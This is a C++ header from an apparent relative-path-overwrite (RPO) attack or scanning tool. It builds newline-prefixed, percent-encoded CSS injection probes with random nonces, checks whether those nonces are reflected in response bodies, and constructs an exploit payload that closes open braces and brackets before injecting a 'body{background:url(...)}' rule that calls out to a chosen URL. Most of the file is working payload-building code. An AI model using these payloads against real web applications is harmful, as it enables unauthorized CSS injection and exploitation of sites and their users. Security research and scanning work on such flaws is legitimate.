#pragma once

#include "rpo/error.hpp"
#include "rpo/url.hpp"

#include <array>
#include <cstdint>
#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace rpo {

class Nonce {
public:
    static constexpr std::size_t length = 32;

    // Throws InvalidArgument unless text is exactly 32 chars of [a-z0-9].
    explicit Nonce(std::string text)
        : m_value(std::move(text))
    {
        if (m_value.size() != length)
            throw InvalidArgument("nonce must be 32 characters");
        for (char c : m_value) {
            if (!((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9')))
                throw InvalidArgument("nonce must be lowercase alphanumeric");
        }
    }

    const std::string& value() const { return m_value; }

    friend bool operator==(const Nonce&, const Nonce&) = default;

private:
    std::string m_value;
};

// mt19937_64 output is fixed by the standard, unlike the distributions.
inline Nonce generate_nonce(std::uint64_t seed)
{
    static constexpr std::string_view alphabet = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::mt19937_64 engine(seed);
    std::string text;
    text.reserve(Nonce::length);
    for (std::size_t i = 0; i < Nonce::length; ++i)
        text += alphabet[engine() % alphabet.size()];
    return Nonce(std::move(text));
}

enum class NewlineVariant {
    LineFeed,
    FormFeed,
    CarriageReturn,
};

inline constexpr std::array<NewlineVariant, 3> all_newline_variants {
    NewlineVariant::LineFeed,
    NewlineVariant::FormFeed,
    NewlineVariant::CarriageReturn,
};

inline std::string_view newline_code(NewlineVariant variant)
{
    switch (variant) {
    case NewlineVariant::LineFeed:
        return "%0A";
    case NewlineVariant::FormFeed:
        return "%0C";
    case NewlineVariant::CarriageReturn:
        return "%0D";
    }
    return "%0A";
}

inline NewlineVariant parse_newline_code(std::string_view code)
{
    for (auto variant : all_newline_variants) {
        if (detail::iequals(code, newline_code(variant)))
            return variant;
    }
    throw InvalidArgument("unknown newline variant: " + std::string(code));
}

struct ReflectionPayload {
    std::string encoded_text;
    Nonce nonce;
    NewlineVariant newline;

    std::string decoded() const { return percent_decode(encoded_text); }
};

inline ReflectionPayload build_reflection_payload(const Nonce& nonce, NewlineVariant newline)
{
    auto rule = "{}body{background:" + nonce.value() + "}";
    return { std::string(newline_code(newline)) + percent_encode(rule), nonce, newline };
}

struct ExploitPayload {
    std::string text;
    std::string nonce_url;
    int closer_count = 0;

    // Form carried in a URL or cookie; leads with the newline that made the
    // reflection payload land.
    std::string url_encoded(NewlineVariant newline) const
    {
        return std::string(newline_code(newline)) + percent_encode(text);
    }
};

inline constexpr int default_closer_count = 20;

inline ExploitPayload build_exploit_payload(std::string nonce_url, int closer_count = default_closer_count)
{
    if (closer_count < 1)
        throw InvalidArgument("closer_count must be positive");
    try {
        (void)parse_url(nonce_url);
    } catch (const MalformedUrl& e) {
        throw InvalidArgument("nonce_url must be an absolute http(s) URL: " + std::string(e.what()));
    }
    std::string text(static_cast<std::size_t>(closer_count), '}');
    text.append(static_cast<std::size_t>(closer_count), ']');
    text += "body{background:url(" + nonce_url + ")}";
    return { std::move(text), std::move(nonce_url), closer_count };
}

// Every offset at which needle occurs in body, overlapping matches included.
inline std::vector<std::size_t> find_occurrences(std::string_view body, std::string_view needle)
{
    std::vector<std::size_t> offsets;
    if (needle.empty())
        return offsets;
    for (auto pos = body.find(needle); pos != std::string_view::npos; pos = body.find(needle, pos + 1))
        offsets.push_back(pos);
    return offsets;
}

inline std::vector<std::size_t> find_reflection(std::string_view body, const Nonce& nonce)
{
    return find_occurrences(body, nonce.value());
}

} // namespace rpo
